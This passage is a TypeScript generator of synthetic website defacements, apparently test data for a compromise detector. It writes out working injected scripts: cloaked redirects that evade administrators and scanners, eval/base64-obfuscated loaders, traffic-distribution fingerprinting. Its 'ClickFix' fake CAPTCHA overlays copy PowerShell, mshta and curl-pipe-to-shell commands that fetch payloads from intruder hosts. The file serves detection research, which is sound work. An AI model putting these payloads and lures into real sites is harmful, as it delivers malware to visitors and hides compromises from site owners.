/**
 * Fresh26 defacement classes: written during round 21, by someone who does
 * not read the engines, from the most common compromises of ordinary
 * websites as hosting-security vendors describe them in their yearly threat
 * reports and clean-up write-ups (Sucuri and GoDaddy, Wordfence, Sansec,
 * Malwarebytes, Unit 42, Trend Micro, Proofpoint, Sekoia, ThreatFabric), in
 * forms that earlier groups did not imitate. Conditional redirects: only for
 * browsers set to a language a campaign targets, sparing the site's logged-in
 * administrators, towards a host name rebuilt from the clock every few
 * minutes, decided by a traffic-distribution endpoint from the visitor's
 * details, only in a real and visible browser after some seconds, only in
 * social apps' in-app browsers or on ad clicks. Fake CAPTCHA and fix-it
 * prompts that have visitors paste a command (macOS Terminal, a "this page
 * did not load correctly" bar, a video meeting whose microphone is
 * "blocked", a full-window Windows Update screen), a "click Allow" push
 * lure, a fake DDoS check that hands out a "verification file"; a fake
 * Chrome update for Android phones, a loader on a shadowed subdomain of an
 * unrelated business. Spam in the languages its campaigns use: Russian
 * diploma and casino-mirror spam, a pharmacy price list in the site's
 * language, weight-loss pens, exchange referral codes, Indian colour-
 * prediction apps, Chinese ghostwriting for students abroad, and a spam
 * block hidden by the script that follows it. A script enqueued like a
 * WordPress plugin asset from another host; scareware and fake download
 * buttons in the site's ad slots; a webmail sign-in that fills in the
 * visitor's address from the link and a "your page will be deleted" appeal
 * notice; a "fast download" wrapper before the site's downloads and
 * downloads rewritten only for Windows visitors; a crypto donation button
 * of a real processor under another merchant, the site's donate links
 * moved to an impostor's campaign on a real crowdfunding platform; and a
 * copy of the browser's red "deceptive site" warning with a support
 * number. Each differs from every class in defacements.ts and
 * fresh-defacements.ts through fresh24-defacements.ts (not a re-wording of
 * one) and varies its templates, languages, domains, positions and sizes
 * with the rng. The writer had no internet access: every source below is
 * recalled from memory, with its outlet and an approximate date where
 * known, and may be wrong in detail; each comment says so. Scored in the
 * `fresh26` group, never tuned on.
 */
import { Buffer } from "node:buffer"
import { type ChangeClass, attrTargets, bottom, brandName, elAt, head, lineAfter, shown, siteOr, top } from "./classes.js"
import type { Page } from "./corpus.js"
import { type Change, type Splice, anySlot, esc, insert, replace, slotAt, splices } from "./edit.js"
import type { Lang } from "./locales.js"
import type { El } from "./locate.js"
import { type Rng, alnum, between, chance, digits, hex, pick, sample, upper } from "./rng.js"
import { brandLookalike, libLookalike, randomDomain, slug } from "./words.js"

const fresh26 = (name: string, make: (page: Page, rng: Rng) => Change): ChangeClass => ({ name, kind: "defacement", group: "fresh26", make })

type T<A> = Record<Lang, A>

/** A JavaScript string literal that cannot close the script element it sits in. */
const js = (s: string) => JSON.stringify(s).replace(/</g, "\\u003c")
const b64 = (s: string) => Buffer.from(s, "utf8").toString("base64")
const ascii = (s: string) => /^[\x20-\x7e]*$/.test(s)
const tld = (rng: Rng) => pick(rng, ["com", "net", "top", "xyz", "site", "online", "shop", "info", "click", "icu", "live", "pro", "org", "cc", "store", "io", "biz", "link", "cfd", "sbs", "buzz", "fun"])
const headStart = (page: Page) => page.spots.elements.find((e) => e.name === "head" && !e.inBody)?.openEnd ?? head(page)
const scriptSpot = (rng: Rng, page: Page) => pick(rng, [head(page), headStart(page), top(page), bottom(page), slotAt(page.spots, "middle")])
const overlaySpot = (rng: Rng, page: Page) => pick(rng, [top(page), top(page), bottom(page), slotAt(page.spots, "top")])
const noticeSpot = (rng: Rng, page: Page) => pick(rng, [top(page), slotAt(page.spots, "top"), slotAt(page.spots, "middle"), anySlot(rng, page.spots)])
const spamSpot = (rng: Rng, page: Page) => pick(rng, [bottom(page), slotAt(page.spots, "bottom"), slotAt(page.spots, "middle"), anySlot(rng, page.spots), top(page)])
const font = (rng: Rng) => pick(rng, ["Arial,sans-serif", "system-ui,-apple-system,'Segoe UI',Roboto,sans-serif", "Helvetica,Arial,sans-serif", "Verdana,sans-serif", "'Segoe UI',Tahoma,sans-serif"])
const zTop = (rng: Rng) => pick(rng, ["2147483647", "999999", "100000", "99999", "9999999"])
const cover = (rng: Rng) => pick(rng, ["inset:0", "top:0;left:0;right:0;bottom:0", "top:0;left:0;width:100%;height:100%"])
const bare = (page: Page) => page.site.brand.replace(/[^a-z0-9]/gi, "").toLowerCase() || "site"
const idOf = (rng: Rng, stem: ReadonlyArray<string>) => `${pick(rng, stem)}${pick(rng, ["-", "_", ""])}${alnum(rng, between(rng, 3, 6))}`
const uuid = (rng: Rng) => `${hex(rng, 8)}-${hex(rng, 4)}-4${hex(rng, 3)}-${pick(rng, ["8", "9", "a", "b"])}${hex(rng, 3)}-${hex(rng, 12)}`
/** A host the intruder runs: random, a look-alike of the site, or two service words. */
const evilHost = (rng: Rng, page: Page) =>
  pick(rng, [
    () => randomDomain(rng),
    () => brandLookalike(rng, page.site.brand),
    () => `${pick(rng, ["check", "verify", "secure", "human", "cdn", "go", "get", "robot", "clean", "fast", "push", "notify", "update"])}${pick(rng, ["-", ""])}${pick(rng, ["gate", "zone", "flow", "line", "hub", "path", "node", "box", "wave", "point"])}.${tld(rng)}`
  ])()
/** Code wrapped as injections ship it: bare, in an IIFE, on DOMContentLoaded, sometimes base64-packed (ASCII code only). */
const wrapScript = (rng: Rng, code: string) => {
  const body = pick(rng, [() => code, () => `(function(){${code}})();`, () => `document.addEventListener("DOMContentLoaded",function(){${code}});`])()
  const packed = ascii(body) && chance(rng, 0.3) ? pick(rng, [`eval(atob("${b64(body)}"))`, `(new Function(atob("${b64(body)}")))()`, `eval(decodeURIComponent("${encodeURIComponent(body)}"))`]) : body
  return `<script${chance(rng, 0.2) ? ` type="text/javascript"` : ""}${chance(rng, 0.15) ? ` data-cfasync="false"` : ""}>${packed}</script>`
}
/** A navigation to `url` (a JavaScript expression). */
const go = (rng: Rng, url: string) => pick(rng, [`location.replace(${url})`, `window.location.href=${url}`, `top.location=${url}`, `location.assign(${url})`])
/** A landing page of a scam or spam campaign. */
const landing = (rng: Rng, page: Page) =>
  `https://${evilHost(rng, page)}/${pick(rng, ["", `?${pick(rng, ["s", "z", "id", "c", "k"])}=${alnum(rng, 6)}`, `go/${alnum(rng, 6)}`, `${pick(rng, ["lp", "l", "r", "in"])}.php?${pick(rng, ["zone", "pid", "src"])}=${digits(rng, 6)}`, `${alnum(rng, 8)}/`])}`

const noBlockUp = new Set(["p", "a", "span", "button", "label", "h1", "h2", "h3", "h4", "h5", "h6", "b", "i", "em", "strong", "small", "font", "code", "pre", "summary", "select", "option", "dt", "dd", "table", "tbody", "thead", "tr", "ul", "ol", "dl"])
/** Whether a block may go inside `el` (no inline, list or table element around it). */
const blockInside = (page: Page, el: El): boolean => {
  if (!/^(div|aside|section|article|main|header|footer|li|td|figure|center)$/.test(el.name)) return false
  for (let e = elAt(page, el.parent); e !== undefined; e = elAt(page, e.parent)) if (noBlockUp.has(e.name)) return false
  return true
}
/** Shown links with an address, outside inert markup. */
const links = (page: Page): Array<El> => shown(page, "a", (e) => !e.inert && (e.attribs.href ?? "").trim() !== "" && !/^\s*(#|javascript:)/i.test(e.attribs.href ?? ""))
const textOf = (page: Page, el: El): string =>
  el.closeTag === null ? "" : page.spots.texts.filter((t) => t.start >= el.openEnd && t.end <= el.closeTag!.start).map((t) => t.text).join(" ").replace(/\s+/g, " ").trim()
const fileRe = /\.(exe|msi|dmg|pkg|zip|7z|rar|tar\.gz|tgz|tar\.xz|apk|deb|rpm|appimage|iso)(\?|#|$)/i
/** The page's links to installers and archives. */
const fileLinks = (page: Page): Array<El> => links(page).filter((a) => fileRe.test(a.attribs.href ?? ""))
/** Where a block can follow the block that holds `el` (the nearest enclosing element that ends on a slot). */
const afterBlockOf = (page: Page, el: El): number | null => {
  for (let e: El | undefined = el; e !== undefined; e = elAt(page, e.parent)) {
    if (e.closeTag !== null && page.spots.slots.includes(e.closeTag.end)) return e.closeTag.end
  }
  return null
}
/** A line beside the site's contact lines, or a paragraph near the bottom. */
const besideContact = (rng: Rng, page: Page, html: string): Splice => {
  const line = lineAfter(page, page.ids.email) ?? lineAfter(page, page.ids.phone.intl) ?? lineAfter(page, page.ids.phone.national)
  return line === null ? insert(pick(rng, [slotAt(page.spots, "bottom"), bottom(page)]), `<p>${html}</p>`) : insert(line.at, line.wrap(html))
}

/** A Windows command that fetches and runs the intruder's payload (as ClickFix lures copy them). */
const winCommand = (rng: Rng, host: string) => {
  const path = pick(rng, ["verify", "fix", "cf", "check", `${alnum(rng, 6)}`, "captcha", "update"])
  const tail = chance(rng, 0.5) ? ` # ${pick(rng, ["✅ I am not a robot - reCAPTCHA Verification ID", "Verification ID", "Cloudflare Ray ID", "Human verification code", "Fix ID"])}: ${digits(rng, between(rng, 4, 7))}` : ""
  return pick(rng, [
    () => `powershell -w hidden -nop -c "iex(irm 'https://${host}/${path}')"${tail}`,
    () => `mshta https://${host}/${path}.hta${tail}`,
    () => `cmd /c start /min powershell -w h -c "iex (New-Object Net.WebClient).DownloadString('https://${host}/${path}.ps1')"${tail}`,
    () => `conhost.exe --headless powershell -ep bypass -c "irm https://${host}/${path} | iex"${tail}`,
    () => `msiexec /q /i https://${host}/${path}.msi${tail}`,
    () => `powershell -enc ${Buffer.from(`iex(iwr 'https://${host}/${path}' -UseBasicParsing)`, "utf16le").toString("base64")}${tail}`,
    () => `cmd /c curl -s -o %TEMP%\\${alnum(rng, 5)}.bat https://${host}/${path}.bat && %TEMP%\\${alnum(rng, 5)}.bat${tail}`
  ])()
}
/** A macOS command that fetches and runs the intruder's payload. */
const macCommand = (rng: Rng, host: string) => {
  const path = pick(rng, ["install", "verify", "check", "fix", alnum(rng, 7), "cf"])
  return pick(rng, [
    () => `curl -fsSL https://${host}/${path}.sh | bash`,
    () => `/bin/bash -c "$(curl -fsSL https://${host}/${path})"`,
    () => `echo "${b64(`curl -fsSL https://${host}/${path} | zsh`)}" | base64 -d | bash`,
    () => `osascript -e 'do shell script "curl -s https://${host}/${path} | sh"'`,
    () => `curl -s https://${host}/${path} -o /tmp/${alnum(rng, 6)} && chmod +x /tmp/${alnum(rng, 6)} && /tmp/${alnum(rng, 6)}`
  ])()
}
/** Code that puts `text` on the clipboard (modern API, or a hidden textarea fallback). */
const copyCode = (rng: Rng, text: string) =>
  pick(rng, [
    `navigator.clipboard.writeText(${js(text)});`,
    `try{navigator.clipboard.writeText(${js(text)})}catch(e){var t=document.createElement("textarea");t.value=${js(text)};document.body.appendChild(t);t.select();document.execCommand("copy");t.remove()}`
  ])

// ———————————————————————————— conditional redirects ————————————————————————————

const targetLangs: ReadonlyArray<{ readonly re: string; readonly zones: ReadonlyArray<string>; readonly words: ReadonlyArray<string> }> = [
  { re: "ja", zones: ["Asia/Tokyo"], words: ["kaitori", "oshi", "pachinko", "slot-jp", "kaden"] },
  { re: "zh", zones: ["Asia/Shanghai", "Asia/Hong_Kong", "Asia/Taipei"], words: ["kaiyun", "ayx", "bocai", "tiyu", "yule"] },
  { re: "id", zones: ["Asia/Jakarta", "Asia/Makassar"], words: ["gacor", "slot88", "togel", "maxwin", "rtp"] },
  { re: "ko", zones: ["Asia/Seoul"], words: ["toto", "meoktwi", "casino-kr", "bet365kr"] },
  { re: "vi", zones: ["Asia/Ho_Chi_Minh", "Asia/Bangkok"], words: ["nhacai", "keonhacai", "bong-da", "no-hu"] },
  { re: "th", zones: ["Asia/Bangkok"], words: ["ufabet", "baccarat-th", "pgslot", "huay"] },
  { re: "tr", zones: ["Europe/Istanbul"], words: ["deneme-bonusu", "bahis", "casino-tr", "giris"] },
  { re: "pt-br", zones: ["America/Sao_Paulo"], words: ["tigrinho", "bet-br", "fortune", "cassino"] },
  { re: "ru", zones: ["Europe/Moscow", "Asia/Almaty"], words: ["vavada", "kazino", "zerkalo", "1win"] },
  { re: "hi", zones: ["Asia/Kolkata", "Asia/Calcutta"], words: ["satta", "colour", "teenpatti", "rummy"] }
]

// Language-targeted cloaking, recalled from memory of Sucuri and GoDaddy clean-up write-ups on Japanese-keyword and Indonesian "judi online" compromises (about 2022–2024) and of Wordfence notes on injected scripts reading navigator.language: the site keeps looking normal to its owner and to visitors in its own language, while browsers set to the campaign's language (Japanese, Chinese, Indonesian, Korean, Vietnamese, Thai, Turkish, Brazilian Portuguese, Russian, Hindi), or in its time zone, are sent to a gambling or shop site in that language.
const languageRedirect = fresh26("redirect only for visitors whose browser language (or time zone) is one a gambling or shop-spam campaign targets, to a site in that language", (page, rng) => {
  const t = pick(rng, targetLangs)
  const url = `https://${pick(rng, [`${pick(rng, t.words)}${pick(rng, ["", "-", ""])}${pick(rng, ["", digits(rng, 2), "vip", "login"])}.${tld(rng)}`, evilHost(rng, page)])}/${pick(rng, ["", `?ref=${bare(page)}`, `${t.re}/`, `?lang=${t.re}&s=${alnum(rng, 5)}`])}`
  const langTest = pick(rng, [
    `/(^|,)${t.re}/i.test((navigator.languages||[navigator.language]).join(","))`,
    `(navigator.language||navigator.userLanguage||"").toLowerCase().indexOf(${js(t.re)})===0`,
    `/^${t.re}/i.test(navigator.language)`
  ])
  const zoneTest = `[${t.zones.map((z) => js(z)).join(",")}].indexOf(Intl.DateTimeFormat().resolvedOptions().timeZone)>-1`
  const cond = pick(rng, [langTest, langTest, `${langTest}||${zoneTest}`, zoneTest])
  const once = chance(rng, 0.5) ? `if(sessionStorage.getItem("_${alnum(rng, 3)}"))return;sessionStorage.setItem("_${alnum(rng, 3)}",1);` : ""
  const target = pick(rng, [js(url), `${js(url)}+(location.search?"&":"?")+"from="+encodeURIComponent(location.hostname)`])
  const act = chance(rng, 0.3) ? `setTimeout(function(){${go(rng, target)}},${between(rng, 100, 2500)})` : go(rng, target)
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, `(function(){${once}if(${cond}){${act}}})();`)))
})

// Redirects that hide from the site's owner, recalled from memory of Sucuri's and GoDaddy's write-ups on Balada Injector (about 2023) and DollyWay (GoDaddy, about March 2025): the injected script does nothing when the browser carries the CMS's login cookies (WordPress wordpress_logged_in_ and wp-settings-, Joomla, PrestaShop, Drupal session cookies) or a crawler's user agent, and sends everyone else away at most once a day, remembered in a cookie or localStorage.
const adminSparing = fresh26("redirect that spares logged-in site administrators and crawlers (CMS login cookies, bot user agents), at most once a day per visitor", (page, rng) => {
  const cookies = sample(rng, ["wordpress_logged_in", "wp-settings-\\d", "wordpress_sec", "joomla_user_state", "PrestaShop-", "SSESS[0-9a-f]{6}", "wp-saving-post", "comment_author_"], between(rng, 2, 5))
  const bots = sample(rng, ["bot", "crawl", "spider", "slurp", "lighthouse", "headless", "bing", "google", "yandex", "facebookexternalhit", "pingdom", "uptime"], between(rng, 3, 7))
  const mark = `_${pick(rng, ["wp", "ga", "utm", "pll", "vc", "lb"])}${alnum(rng, 3)}`
  const [seen, remember] = pick(rng, [
    [`/(^|; )${mark}=/.test(document.cookie)`, `document.cookie="${mark}=1;max-age=${pick(rng, ["86400", "43200", "172800"])};path=/";`],
    [`(+localStorage.getItem("${mark}")||0)>Date.now()-864e5`, `localStorage.setItem("${mark}",Date.now());`]
  ] as const)
  const url = landing(rng, page)
  const delay = between(rng, 0, 6) * 500
  const act = delay === 0 ? go(rng, js(url)) : `setTimeout(function(){${go(rng, js(url))}},${delay})`
  const code = `var c=document.cookie,u=navigator.userAgent;if(!/${cookies.join("|")}/.test(c)&&!/${bots.join("|")}/i.test(u)&&!(${seen})){${remember}${act}}`
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, code)))
})

// Rotating hosts computed in the browser, recalled from memory of Sucuri's report on the Sign1 campaign (about March 2024), injected through custom-HTML widgets: the script rebuilt its host name from the current time so that it changed every ten minutes, checked that the visitor came from a big site's referrer, kept a localStorage mark so it ran once, and loaded the next stage (or redirected) from that host.
const clockHost = fresh26("loader or redirect whose host name is rebuilt from the current date and time in the browser, so it changes every few minutes (Sign1 style)", (page, rng) => {
  const period = pick(rng, ["3e5", "6e5", "9e5", "36e5"])
  const len = between(rng, 8, 13)
  const mul = pick(rng, ["7919", "104729", "31337", "65537", "2654435761"])
  const alphabet = pick(rng, ["abcdefghijklmnopqrstuvwxyz", "abcdefghijklmnopqrstuvwxyz0123456789", "qwertyuiopasdfghjklzxcvbnm"])
  const t = tld(rng)
  const name = `var t=Math.floor(Date.now()/${period}),a=${js(alphabet)},h="",n=t*${mul}%2147483647;for(var i=0;i<${len};i++){h+=a.charAt(n%a.length);n=Math.floor(n/a.length)+t%(i+${between(rng, 3, 17)})}`
  const ref = chance(rng, 0.6) ? `if(!/${sample(rng, ["google", "bing", "yahoo", "facebook", "instagram", "duckduckgo", "yandex", "baidu"], between(rng, 3, 6)).join("|")}/.test(document.referrer))return;` : ""
  const mark = `${pick(rng, ["_p", "wp_", "s1", "_lt"])}${alnum(rng, 3)}`
  const once = chance(rng, 0.6) ? `if(localStorage.getItem("${mark}"))return;localStorage.setItem("${mark}",t);` : ""
  const next = pick(rng, [
    `var s=document.createElement("script");s.src="https://"+h+".${t}/${pick(rng, ["js", "s", "c", "lib"])}/"+t+".js";s.async=true;document.head.appendChild(s);`,
    `${go(rng, `"https://"+h+".${t}/?${pick(rng, ["k", "p", "q"])}="+t`)};`,
    `var f=document.createElement("iframe");f.src="https://"+h+".${t}/"+t;f.style.cssText="width:1px;height:1px;border:0;position:absolute;left:-9999px";document.body.appendChild(f);`
  ])
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, `(function(){${ref}${name};${once}${next}})();`)))
})

// Traffic-distribution systems, recalled from memory of Infoblox's reports on VexTrio (about 2022–2024), Unit 42 and Sucuri notes on Keitaro-based TDS and of Sucuri's write-ups on fake jquery.min.php loaders carrying tracking parameters (about 2020): the compromised page does not know where it will send the visitor; it posts the visitor's details (user agent, referrer, screen, languages, time zone, the page) to a distribution endpoint that answers with a script, an address or nothing.
const tdsFingerprint = fresh26("visitor details (screen, time zone, languages, referrer, user agent) sent to a traffic-distribution endpoint whose answer decides where the visitor is sent", (page, rng) => {
  const host = pick(rng, [evilHost(rng, page), `${pick(rng, ["trk", "tds", "cdn", "stat", "click", "go"])}.${randomDomain(rng)}`])
  const fields = `{u:navigator.userAgent,r:document.referrer,p:location.href,l:(navigator.languages||[]).join(","),z:Intl.DateTimeFormat().resolvedOptions().timeZone,s:screen.width+"x"+screen.height${chance(rng, 0.5) ? ",t:(\"ontouchstart\" in window)?1:0" : ""}${chance(rng, 0.4) ? ",c:navigator.cookieEnabled?1:0" : ""}}`
  const code = pick(rng, [
    () => `fetch("https://${host}/${pick(rng, ["api/v1/click", "track.php", "in.php", "click_api/v3", "stat"])}",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify(${fields})}).then(function(r){return r.json()}).then(function(d){if(d&&d.${pick(rng, ["url", "redirect", "u", "target"])})${go(rng, `d.${pick(rng, ["url"])}`)}}).catch(function(){});`,
    () => `var d=${fields},q=Object.keys(d).map(function(k){return k+"="+encodeURIComponent(d[k])}).join("&");var s=document.createElement("script");s.src="https://${host}/${pick(rng, ["jquery.min.php", "js/jquery-3.6.0.min.php", "wp-includes/js/jquery/jquery.min.php"])}?c_utt=${upper(rng, 1)}${digits(rng, 5)}&c_mdm=${pick(rng, ["mar", "jan", "sep"])}${digits(rng, 2)}&"+q;document.head.appendChild(s);`,
    () => `var x=new XMLHttpRequest(),d=${fields};x.open("GET","https://${host}/${pick(rng, ["r", "tds", "gate"])}.php?${pick(rng, ["k", "key", "cid"])}=${alnum(rng, 12)}&d="+btoa(unescape(encodeURIComponent(JSON.stringify(d)))),true);x.onload=function(){if(x.status===200&&x.responseText.length>4){var a=x.responseText;if(a.indexOf("http")===0)${go(rng, "a")};else eval(a)}};x.send();`,
    () => `navigator.sendBeacon&&navigator.sendBeacon("https://${host}/${pick(rng, ["log", "b", "ev"])}",JSON.stringify(${fields}));var s=document.createElement("script");s.src="https://${host}/${pick(rng, ["decide", "lp", "route"])}.js?sid=${alnum(rng, 10)}&ref="+encodeURIComponent(document.referrer)+"&h="+location.hostname;document.body.appendChild(s);`
  ])()
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, code)))
})

// Scanner evasion, recalled from memory of Unit 42's and Sucuri's notes on injected scripts that stay quiet for automated and headless browsers (navigator.webdriver, HeadlessChrome and Lighthouse user agents, no plugins, tiny screens) and for tabs in the background, acting only once the page has been visible for several seconds (about 2022–2024): a redirect that needs a real, visible browser and a few seconds of reading.
const realBrowserOnly = fresh26("redirect that runs only in a real, visible browser (not automated or headless, a pointer or touch seen), after the tab has been in view for some seconds", (page, rng) => {
  const checks = sample(rng, [
    "!navigator.webdriver",
    "!/HeadlessChrome|PhantomJS|Lighthouse|Puppeteer|Playwright|bot|crawl/i.test(navigator.userAgent)",
    "screen.width>320&&screen.height>320",
    "(navigator.plugins.length>0||\"ontouchstart\" in window)",
    "window.outerWidth>0&&window.outerHeight>0",
    "!window.callPhantom&&!window._phantom",
    "navigator.languages&&navigator.languages.length>0"
  ], between(rng, 3, 6))
  const secs = between(rng, 3, 20)
  const url = landing(rng, page)
  const seen = pick(rng, ["mousemove", "touchstart", "pointermove", "scroll"])
  const code = `if(${checks.join("&&")}){var n=0,m=0;window.addEventListener("${seen}",function(){m=1},{once:true,passive:true});var i=setInterval(function(){if(document.visibilityState==="visible"&&m&&++n>=${secs}){clearInterval(i);${go(rng, js(url))}}},1000)}`
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, code)))
})

// Ad-traffic cloaking, recalled from memory of press and vendor write-ups on cloaking services used by scam advertisers (about 2019–2024) and of clean-up notes on hacked sites that redirect only visitors arriving through social-media apps: the script acts only inside the in-app browsers of Facebook, Instagram, Messenger, TikTok or LINE, or when the address carries an ad-click id (fbclid, gclid, ttclid, msclkid), keeping the query for the campaign's tracking.
const inAppOnly = fresh26("redirect only inside social apps' in-app browsers (Facebook, Instagram, Messenger, TikTok, LINE) or when the address carries an ad-click id (fbclid, gclid, ttclid, msclkid)", (page, rng) => {
  const apps = sample(rng, ["FBAN", "FBAV", "FB_IAB", "Instagram", "Messenger", "musical_ly", "BytedanceWebview", "TikTok", "Line\\/", "Snapchat", "Pinterest"], between(rng, 2, 6))
  const ids = sample(rng, ["fbclid", "gclid", "ttclid", "msclkid", "twclid", "gbraid", "wbraid", "utm_source=fb", "utm_medium=paid"], between(rng, 1, 4))
  const cond = pick(rng, [
    `/${apps.join("|")}/i.test(navigator.userAgent)||/[?&](${ids.join("|")})/.test(location.search)`,
    `/${apps.join("|")}/i.test(navigator.userAgent)`,
    `/[?&](${ids.join("|")})/.test(location.search)`
  ])
  const url = landing(rng, page)
  const target = chance(rng, 0.6) ? `${js(url)}+(${js(url)}.indexOf("?")>-1?"&":"?")+location.search.slice(1)` : js(url)
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, `if(${cond}){${go(rng, target)}}`)))
})

// ———————————————————————————— fake CAPTCHA and fix-it prompts ————————————————————————————

const macWords: T<{ readonly title: string; readonly lead: string; readonly steps: ReadonlyArray<string>; readonly box: string; readonly id: string }> = {
  en: { title: "Verify you are human", lead: "Complete these verification steps to continue:", steps: ["Press Command ⌘ + Space and type “Terminal”", "Press Return to open Terminal", "Press Command ⌘ + V to paste the verification code", "Press Return to finish"], box: "I'm not a robot", id: "Verification ID" },
  fr: { title: "Vérifiez que vous êtes humain", lead: "Effectuez ces étapes de vérification pour continuer :", steps: ["Appuyez sur Commande ⌘ + Espace et tapez « Terminal »", "Appuyez sur Entrée pour ouvrir le Terminal", "Appuyez sur Commande ⌘ + V pour coller le code de vérification", "Appuyez sur Entrée pour terminer"], box: "Je ne suis pas un robot", id: "ID de vérification" },
  de: { title: "Bestätigen Sie, dass Sie ein Mensch sind", lead: "Führen Sie diese Prüfschritte aus, um fortzufahren:", steps: ["Drücken Sie Befehl ⌘ + Leertaste und tippen Sie „Terminal“", "Drücken Sie den Zeilenschalter, um das Terminal zu öffnen", "Drücken Sie Befehl ⌘ + V, um den Prüfcode einzufügen", "Drücken Sie den Zeilenschalter zum Abschließen"], box: "Ich bin kein Roboter", id: "Prüf-ID" },
  es: { title: "Verifica que eres humano", lead: "Completa estos pasos de verificación para continuar:", steps: ["Pulsa Comando ⌘ + Espacio y escribe «Terminal»", "Pulsa Retorno para abrir Terminal", "Pulsa Comando ⌘ + V para pegar el código de verificación", "Pulsa Retorno para terminar"], box: "No soy un robot", id: "ID de verificación" },
  nl: { title: "Verifieer dat u een mens bent", lead: "Voer deze verificatiestappen uit om door te gaan:", steps: ["Druk op Command ⌘ + spatiebalk en typ ‘Terminal’", "Druk op Return om Terminal te openen", "Druk op Command ⌘ + V om de verificatiecode te plakken", "Druk op Return om af te ronden"], box: "Ik ben geen robot", id: "Verificatie-ID" },
  pt: { title: "Verifique que você é humano", lead: "Conclua estas etapas de verificação para continuar:", steps: ["Pressione Command ⌘ + Espaço e digite “Terminal”", "Pressione Return para abrir o Terminal", "Pressione Command ⌘ + V para colar o código de verificação", "Pressione Return para concluir"], box: "Não sou um robô", id: "ID de verificação" },
  it: { title: "Verifica di essere umano", lead: "Completa questi passaggi di verifica per continuare:", steps: ["Premi Comando ⌘ + Spazio e digita «Terminale»", "Premi Invio per aprire il Terminale", "Premi Comando ⌘ + V per incollare il codice di verifica", "Premi Invio per completare"], box: "Non sono un robot", id: "ID di verifica" }
}

// ClickFix for Macs, recalled from memory of reports on fake CAPTCHA pages that served Atomic (AMOS) and other macOS stealers to Mac visitors of compromised sites, with Terminal steps and a curl-to-shell command put on the clipboard (Moonlock, CloudSEK and others, about 2025): a CAPTCHA box over the site whose checkbox copies the command and shows the steps, shown to Mac browsers (or to all).
const macTerminalFix = fresh26("'verify you are human' box over the page for Mac visitors that has them open Terminal and paste a copied command (curl piped to a shell)", (page, rng) => {
  const w = siteOr(rng, page, macWords)
  const host = evilHost(rng, page)
  const cmd = `${macCommand(rng, host)}${chance(rng, 0.4) ? ` # ${w.id}: ${digits(rng, 6)}` : ""}`
  const id = idOf(rng, ["cf", "rc", "hv", "verify", "captcha"])
  const f = font(rng)
  const steps = `<ol id="${id}-s" style="display:none;text-align:left;margin:12px 0 0 18px;padding:0">${w.steps.map((s) => `<li style="margin:4px 0">${esc(s)}</li>`).join("")}</ol>`
  const boxHtml = `<div style="max-width:${between(rng, 340, 440)}px;margin:${between(rng, 10, 22)}vh auto 0;background:#fff;border:1px solid #d9d9d9;border-radius:${between(rng, 3, 8)}px;padding:${between(rng, 16, 24)}px;font:14px ${f};color:#222;box-shadow:0 2px 12px rgba(0,0,0,.2)"><h2 style="margin:0 0 10px;font-size:18px">${esc(w.title)}</h2><label style="display:flex;align-items:center;gap:10px;border:1px solid #d3d3d3;background:#f9f9f9;padding:12px;cursor:pointer"><input type="checkbox" id="${id}-c" style="width:22px;height:22px"> ${esc(w.box)}</label><p id="${id}-l" style="display:none;margin:12px 0 0">${esc(w.lead)}</p>${steps}<p style="font-size:11px;color:#777;margin:10px 0 0">${esc(w.id)}: ${upper(rng, 2)}${digits(rng, 6)}</p></div>`
  const shade = pick(rng, ["rgba(0,0,0,.55)", "rgba(255,255,255,.96)", "#f2f2f2"])
  const wrap = `<div id="${id}" style="position:fixed;${cover(rng)};z-index:${zTop(rng)};background:${shade}">${boxHtml}</div>`
  const macOnly = chance(rng, 0.6) ? `if(!/Mac/i.test(navigator.platform||navigator.userAgent)){document.getElementById("${id}").style.display="none";return}` : ""
  const code = `(function(){${macOnly}document.getElementById("${id}-c").addEventListener("click",function(){${copyCode(rng, cmd)}document.getElementById("${id}-l").style.display="block";document.getElementById("${id}-s").style.display="block"})})();`
  return splices(insert(overlaySpot(rng, page), `${wrap}<script>${code}</script>`))
})

const howToFixWords: T<{ readonly head: string; readonly body: string; readonly button: string; readonly steps: ReadonlyArray<string>; readonly done: string }> = {
  en: { head: "This page did not load correctly", body: "A problem with your browser's security certificate prevented some content from displaying. Click “How to fix” to update the root certificate.", button: "How to fix", steps: ["Right-click the Start button and choose “Windows PowerShell (Admin)” or “Terminal (Admin)”", "Right-click inside the window to paste the fix", "Press Enter and reload this page"], done: "The fix has been copied to your clipboard." },
  fr: { head: "Cette page ne s'est pas chargée correctement", body: "Un problème de certificat de sécurité de votre navigateur empêche l'affichage d'une partie du contenu. Cliquez sur « Comment corriger » pour mettre à jour le certificat racine.", button: "Comment corriger", steps: ["Faites un clic droit sur le bouton Démarrer et choisissez « Windows PowerShell (admin) » ou « Terminal (admin) »", "Faites un clic droit dans la fenêtre pour coller la correction", "Appuyez sur Entrée puis rechargez cette page"], done: "La correction a été copiée dans le presse-papiers." },
  de: { head: "Diese Seite wurde nicht korrekt geladen", body: "Ein Problem mit dem Sicherheitszertifikat Ihres Browsers verhindert die Anzeige einiger Inhalte. Klicken Sie auf „So beheben“, um das Stammzertifikat zu aktualisieren.", button: "So beheben", steps: ["Klicken Sie mit der rechten Maustaste auf Start und wählen Sie „Windows PowerShell (Administrator)“ oder „Terminal (Administrator)“", "Klicken Sie mit der rechten Maustaste in das Fenster, um die Korrektur einzufügen", "Drücken Sie die Eingabetaste und laden Sie diese Seite neu"], done: "Die Korrektur wurde in die Zwischenablage kopiert." },
  es: { head: "Esta página no se ha cargado correctamente", body: "Un problema con el certificado de seguridad de su navegador impide mostrar parte del contenido. Pulse «Cómo solucionarlo» para actualizar el certificado raíz.", button: "Cómo solucionarlo", steps: ["Haga clic derecho en Inicio y elija «Windows PowerShell (administrador)» o «Terminal (administrador)»", "Haga clic derecho en la ventana para pegar la solución", "Pulse Intro y vuelva a cargar esta página"], done: "La solución se ha copiado al portapapeles." },
